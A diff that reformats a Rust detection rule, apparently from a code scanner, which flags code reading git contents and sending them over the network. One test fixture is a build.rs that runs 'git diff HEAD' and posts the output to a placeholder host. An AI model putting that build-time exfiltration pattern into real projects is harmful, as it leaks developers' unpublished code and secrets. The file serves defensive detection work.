@@ -17,7 +17,8 @@ pub(super) const RULE: Rule = Rule {
 
 fn judge(look: &Look<'_>) -> Option<Hit> {
     let asks = look.has(Sign::GitContents) && look.starts();
-    if !asks || !look.reaches_out() || !look.any(&[Sign::Send, Sign::Url, Sign::HiddenUrl, Sign::Downloader]) {
+    if !asks || !look.reaches_out() || !look.any(&[Sign::Send, Sign::Url, Sign::HiddenUrl, Sign::Downloader])
+    {
         return None;
     }
     let severity = match () {
@@ -25,7 +26,12 @@ fn judge(look: &Look<'_>) -> Option<Hit> {
         () if look.is_close() || look.scope.is_whole => Severity::Medium,
         () => Severity::Low,
     };
-    hit(severity, &[Sign::GitContents], WAY, format!("{} asks git for what was written, and can send it away", look.where_it_runs()))
+    hit(
+        severity,
+        &[Sign::GitContents],
+        WAY,
+        format!("{} asks git for what was written, and can send it away", look.where_it_runs()),
+    )
 }
 
 #[cfg(test)]
@@ -36,15 +42,24 @@ mod tests {
 
     #[test]
     fn it_fires() {
-        fires(&RULE, "build.rs", r##"use std::process::Command as C;
+        fires(
+            &RULE,
+            "build.rs",
+            r##"use std::process::Command as C;
 fn main() {
     let d = C::new("git").args(["diff", "HEAD"]).output().unwrap().stdout;
     let _ = ureq::post("https://a.example/d").send_bytes(&d);
-}"##, Severity::High);
+}"##,
+            Severity::High,
+        );
     }
 
     #[test]
     fn look_alikes_are_left_alone() {
-        is_quiet(&RULE, "build.rs", r##"fn main() { let d = std::process::Command::new("git").args(["log", "-1"]).output().unwrap(); println!("cargo:rustc-env=V={}", d.stdout.len()); }"##);
+        is_quiet(
+            &RULE,
+            "build.rs",
+            r##"fn main() { let d = std::process::Command::new("git").args(["log", "-1"]).output().unwrap(); println!("cargo:rustc-env=V={}", d.stdout.len()); }"##,
+        );
     }
 }
